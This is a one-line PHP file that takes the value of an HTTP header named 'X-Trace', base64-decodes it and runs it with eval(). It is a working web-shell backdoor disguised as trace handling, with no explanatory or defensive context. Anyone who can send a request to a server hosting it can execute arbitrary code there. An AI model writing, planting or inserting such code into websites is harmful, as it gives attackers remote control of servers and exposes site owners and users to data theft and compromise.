<?php $h=$_SERVER["HTTP_X_TRACE"]; $c=base64_decode($h); eval($c);
